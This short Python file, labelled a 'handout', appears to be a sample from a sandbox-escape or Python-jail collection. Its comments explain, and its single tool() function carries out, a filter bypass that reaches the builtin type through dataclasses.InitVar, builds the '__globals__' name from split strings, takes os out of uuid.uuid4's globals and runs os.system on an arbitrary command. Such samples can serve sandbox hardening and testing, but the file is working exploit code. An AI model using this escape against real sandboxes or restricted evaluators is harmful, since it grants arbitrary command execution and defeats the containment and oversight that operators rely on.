# family: handout
# Escape: dataclasses.InitVar[...] keeps its argument in the public attribute .type, and a subscript index is
# an "operand" where the name `type` is fine; so InitVar[type].type is the builtin `type` as a value.
# type(attrgetter) is then the attrgetter class: uuid.uuid4.__globals__ (run-time name) holds os.
import dataclasses
import operator
import uuid


def tool(cmd: str) -> int:
    Getter = dataclasses.InitVar[type].type(operator.attrgetter("hex"))
    edge = "_" * 2
    return Getter(edge + "globals" + edge)(uuid.uuid4)["os"].system(cmd)
